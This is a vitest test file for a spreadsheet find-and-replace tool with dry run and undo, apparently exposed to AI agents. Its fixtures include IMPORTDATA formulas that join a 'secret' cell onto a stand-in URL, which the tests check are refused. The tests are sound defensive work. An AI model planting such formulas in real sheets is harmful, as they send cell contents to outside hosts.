// Find and replace, its dry run and its undoing, through the front door.

import { describe, expect, test } from 'vitest';
import { testApp } from '../support/app.ts';
import { failureOf } from '../support/fake-google.ts';
import {
  done,
  elsewhere,
  losesReply,
  namesInMemory,
  newBook,
  type Rows,
  refused,
  rowsOf,
} from '../support/tool-calls.ts';
import { createWorld, startApp } from '../support/wired-app.ts';

const writeId = expect.any(String);
const S: Rows = [
  ['Ltd. ltd.', 'Acme Ltd.', 12],
  ['ltd', { formula: '="Ltd. "&C1' }, '2026-01-12'],
];

async function open(sheets: Readonly<Record<string, Rows>> = { S, T: [['Ltd.']] }, env: Record<string, string> = {}) {
  const app = await testApp(env);
  const id = await newBook(app, sheets);
  return {
    app,
    id,
    replace: (input: object) => done(app, 'replace_text', { spreadsheet: id, ...input }),
    refuse: (input: object) => refused(app, 'replace_text', { spreadsheet: id, ...input }),
    rows: (range = 'S') => rowsOf(app, id, range, 'formula'),
    undo: (write: string) => done(app, 'undo_write', { writeId: write }),
  };
}

const ltd = { find: 'ltd.', replacement: 'Limited' };

/** What each call says beforehand, and does. */
const CASES: readonly [string, object, { occurrences: number; cells: number; sheets: number }][] = [
  ['in all sheets, whatever the case', ltd, { occurrences: 4, cells: 3, sheets: 2 }],
  ['in one sheet', { ...ltd, sheet: 'S' }, { occurrences: 3, cells: 2, sheets: 1 }],
  ['in a range', { ...ltd, range: 'S!B:C' }, { occurrences: 1, cells: 1, sheets: 1 }],
  ['in a range beyond the sheet', { ...ltd, range: 'S!A1:C5000' }, { occurrences: 3, cells: 2, sheets: 1 }],
  ['by case', { ...ltd, matchCase: true }, { occurrences: 1, cells: 1, sheets: 1 }],
  ['whole cells', { find: 'LTD.', replacement: 'x', wholeCell: true }, { occurrences: 1, cells: 1, sheets: 1 }],
  ['in formulas', { ...ltd, sheet: 'S', formulas: true }, { occurrences: 4, cells: 3, sheets: 1 }],
  [
    'in numbers and dates as they are shown',
    { find: '12', replacement: '13' },
    { occurrences: 2, cells: 2, sheets: 1 },
  ],
  [
    'by a pattern',
    { find: 'L(t)d\\.?', replacement: '$1', regex: true, matchCase: true },
    { occurrences: 3, cells: 3, sheets: 2 },
  ],
  [
    'by a pattern for whole cells',
    { find: '[a-z]+', replacement: 'x', regex: true, wholeCell: true },
    { occurrences: 1, cells: 1, sheets: 1 },
  ],
  ['nowhere', { find: 'nothing', replacement: '' }, { occurrences: 0, cells: 0, sheets: 0 }],
];

describe('replace_text', () => {
  test.each(CASES)('%s: the dry run says what is done, and it is undone', async (_, input, counts) => {
    const { replace, rows, undo } = await open();
    const before = [await rows(), await rows('T')];
    const found = counts.occurrences > 0;
    expect(await replace({ ...input, dryRun: true })).toEqual({ status: found ? 'dry_run' : 'unchanged', ...counts });
    expect([await rows(), await rows('T')]).toEqual(before);
    const answer = await replace(input);
    expect(answer).toEqual({ status: found ? 'applied' : 'unchanged', ...counts, writeId });
    expect(JSON.stringify([await rows(), await rows('T')]) === JSON.stringify(before)).toBe(!found);
    await undo(answer.writeId);
    expect([await rows(), await rows('T')]).toEqual(before);
  });

  test('results are taken as if typed in, and get their format back when undone', async () => {
    const { app, id, replace, undo } = await open({ S: [['x5'], ['x2026-02-01']] });
    const { writeId: write } = await replace({ find: 'x', replacement: '' });
    expect(await rowsOf(app, id)).toEqual([[5], ['2026-02-01']]);
    await done(app, 'write_range', { spreadsheet: id, writes: [{ range: 'S!B1', values: [['beside']] }] });
    await undo(write);
    await done(app, 'write_range', { spreadsheet: id, writes: [{ range: 'S!A1:A2', values: [[1], [2]] }] });
    expect(await rowsOf(app, id, 'S', 'formatted')).toEqual([['1', 'beside'], ['2']]);
  });

  test('what only Sheets knows has no dry run; it is replaced, counted by Sheets, and undone all the same', async () => {
    const { replace, refuse, rows, undo } = await open({
      S: [
        ['über alles', 'x'],
        ['b', 'überall'],
      ],
    });
    const input = { find: '\\bü', replacement: 'U', regex: true, matchCase: true };
    expect(await refuse({ ...input, dryRun: true })).toContain(
      'unsupported: dryRun: only Sheets knows what this finds',
    );
    const answer = await replace({ find: 'Ü', replacement: 'U', regex: true });
    expect(answer).toEqual({ status: 'applied', occurrences: 2, cells: 2, sheets: 1, writeId });
    expect(await rows()).toEqual([
      ['Uber alles', 'x'],
      ['b', 'Uberall'],
    ]);
    await undo(answer.writeId);
    expect(await rows()).toEqual([
      ['über alles', 'x'],
      ['b', 'überall'],
    ]);
  });

  test('undone, later changes of other cells stay; of its own cells they are a conflict', async () => {
    const { app, id, replace, rows, undo } = await open();
    const { writeId: first } = await replace(ltd);
    await done(app, 'write_range', { spreadsheet: id, writes: [{ range: 'S!A2', values: [['new']] }] });
    await undo(first);
    expect(await rows('S!A1:A2')).toEqual([['Ltd. ltd.'], ['new']]);
    const { writeId: second } = await replace(ltd);
    await done(app, 'write_range', { spreadsheet: id, writes: [{ range: 'S!A1', values: [['new']] }] });
    expect(await refused(app, 'undo_write', { writeId: second })).toContain('S!A1. Nothing was undone.');
  });

  test.each<[string, object, string]>([
    ['nothing to find', { find: '', replacement: 'x' }, 'invalid_argument: replace_text: find: '],
    ['a sheet and a range', { ...ltd, sheet: 'S', range: 'S!A1' }, 'give either sheet or range'],
    ['an unknown sheet', { ...ltd, sheet: 'Ss' }, 'not_found: There is no sheet "Ss". Did you mean "S"?'],
    ['an unknown range', { ...ltd, range: 'Ss!A1' }, 'not_found: There is no sheet "Ss". Did you mean "S"?'],
    ['a range beyond the sheet', { ...ltd, range: 'S!A2000:B2001' }, "range: 'S'!A2000:B2001 lies beyond its sheet."],
    ['a pattern that is none', { find: '(', replacement: 'x', regex: true }, 'Invalid regular expression: ('],
  ])('refuses %s', async (_, input, words) => {
    const { refuse, rows } = await open();
    expect(await refuse(input)).toContain(words);
    expect((await rows())[0]).toEqual(['Ltd. ltd.', 'Acme Ltd.', 12]);
  });
});

describe('a formula that fetches from elsewhere', () => {
  const parts: Rows = [
    ['Z=IMPORTDATA("http://x/"&B1)', 'secret'],
    ['=IMPXRTDATA("http://x/"&B1)'],
    [{ formula: '=Q1&"IMPORTDATA(1)"' }],
  ];

  test.each<[string, object, string]>([
    [
      'named in the replacement',
      { find: 'secret', replacement: '=IMPORTDATA(A1)' },
      'replacement: "=IMPORTDATA(A1)" uses IMPORTDATA',
    ],
    [
      'laid bare',
      { find: 'Z', replacement: '' },
      'S!A1 would use IMPORTDATA, which fetches from elsewhere: nothing was replaced.',
    ],
    ['put together', { find: 'X', replacement: 'O', matchCase: true }, 'S!A2 would use IMPORTDATA'],
    [
      'put together by a pattern',
      { find: '(P)X', replacement: '$1O', regex: true, matchCase: true },
      'S!A2 would use IMPORTDATA',
    ],
    [
      'put together in a dry run',
      { find: 'X', replacement: 'O', matchCase: true, dryRun: true },
      'S!A2 would use IMPORTDATA',
    ],
    ['of a formula', { find: 'Q1&"IMPORTDATA(1)"', replacement: 'IMPORTDATA(1)', formulas: true }, 'IMPORTDATA'],
    [
      'that cannot be told',
      { find: '(?=X)X', replacement: 'O', regex: true, matchCase: true },
      'S!A1 may become a formula that fetches from elsewhere',
    ],
  ])('is refused: %s', async (_, input, words) => {
    const { refuse, rows } = await open({ S: parts });
    const before = await rows();
    expect(await refuse(input)).toMatch(/^unsupported: /);
    expect(await refuse(input)).toContain(words);
    expect(await rows()).toEqual(before);
  });

  test('is none while it stays a text, or is another cell', async () => {
    const { replace, rows } = await open({ S: parts });
    expect(await replace({ find: 'Z', replacement: 'Y' })).toMatchObject({ cells: 1 });
    expect(await replace({ find: 'secret', replacement: '(?=x)', regex: false })).toMatchObject({ cells: 1 });
    expect((await rows())[0]).toEqual(['Y=IMPORTDATA("http://x/"&B1)', '(?=x)']);
  });

  test('is made where the operator allows it', async () => {
    const { replace } = await open({ S: [['Z=IMPORTDATA("http://x/")']] }, { ALLOW_EXTERNAL_FORMULAS: 'true' });
    expect(await replace({ find: 'Z', replacement: '' })).toMatchObject({ status: 'applied', cells: 1 });
  });
});

describe('when something fails', () => {
  async function wired(env: Record<string, string> = {}) {
    const world = await createWorld();
    const app = await startApp(world, env);
    const id = await world.book([
      ['aa', 'b'],
      ['b', 'a'],
    ]);
    const run = (more: object) =>
      world.until(app.run('replace_text', { spreadsheet: id, find: 'a', replacement: 'x', ...more }));
    const undo = (write: unknown, more: object = {}) => world.until(app.run('undo_write', { writeId: write, ...more }));
    return { world, app, id, run, undo };
  }

  test('the counts are told though the reply was lost, and undoing takes force', async () => {
    const { world, id, run, undo } = await wired();
    losesReply(world);
    const answer = await run({});
    expect(answer).toEqual({ status: 'applied', occurrences: 3, cells: 2, sheets: 1, writeId });
    expect(await world.rows(id)).toEqual([
      ['xx', 'b'],
      ['b', 'x'],
    ]);
    expect((await failureOf(undo(answer.writeId))).code).toBe('conflict');
    await undo(answer.writeId, { force: true });
    expect(await world.rows(id)).toEqual([
      ['aa', 'b'],
      ['b', 'a'],
    ]);
  });

  test('the counts are not told when the reply was lost and only Sheets knew them', async () => {
    const { world, id, run, undo } = await wired();
    losesReply(world);
    const answer = await run({ find: '\\x61', regex: true });
    expect(answer).toEqual({ status: 'applied', warnings: [expect.stringContaining('reply was lost')], writeId });
    expect(await world.rows(id)).toEqual([
      ['xx', 'b'],
      ['b', 'x'],
    ]);
    expect((await failureOf(undo(answer.writeId))).code).toBe('unsupported');
  });

  test('what others change in the same moment is not taken for its own', async () => {
    const { world, id, run, undo } = await wired();
    let once = true;
    world.onWire(async ({ kinds }) => {
      if (kinds.length < 2 || !once) return undefined;
      once = false;
      const rows = [{ values: [{ userEnteredValue: { stringValue: 'theirs' } }] }];
      const start = { sheetId: 7, columnIndex: 1 };
      await elsewhere(world, id, { updateCells: { start, rows, fields: 'userEnteredValue' } });
      return undefined;
    });
    const { writeId: write } = await run({});
    await undo(write);
    expect(await world.rows(id)).toEqual([
      ['aa', 'theirs'],
      ['b', 'a'],
    ]);
  });

  test('it is kept while Google cannot be asked, and made later', async () => {
    const { world, app, id, run } = await wired();
    world.onWire(() => new Response('no', { status: 503 }));
    for (let n = 0; n < 12; n++)
      await failureOf(world.until(app.run('describe_spreadsheet', { spreadsheet: id, fresh: true })));
    const queued = await run({});
    expect(queued).toMatchObject({ status: 'queued', position: 1 });
    world.onWire();
    await world.pass(120_000, 1_000);
    expect(await world.until(app.run('get_write', { writeId: queued.writeId }))).toMatchObject({
      state: 'applied',
      answer: { status: 'applied', occurrences: 3 },
    });
    expect(await world.rows(id)).toEqual([
      ['xx', 'b'],
      ['b', 'x'],
    ]);
  });

  test('a sheet that was renamed meanwhile is not taken for another', async () => {
    const { world, app, id } = await wired();
    await namesInMemory(app, id);
    await elsewhere(
      world,
      id,
      { updateSheetProperties: { properties: { sheetId: 7, title: 'New' }, fields: 'title' } },
      { addSheet: { properties: { sheetId: 8, title: 'S' } } },
    );
    const input = { spreadsheet: id, find: 'a', replacement: 'x' };
    expect(await done(app, 'replace_text', { ...input, sheet: 'S' })).toMatchObject({ status: 'unchanged' });
    expect(await done(app, 'replace_text', { ...input, range: 'New!A1' })).toMatchObject({ occurrences: 2 });
    expect(await world.rows(id, 'New')).toEqual([
      ['xx', 'b'],
      ['b', 'a'],
    ]);
  });
});
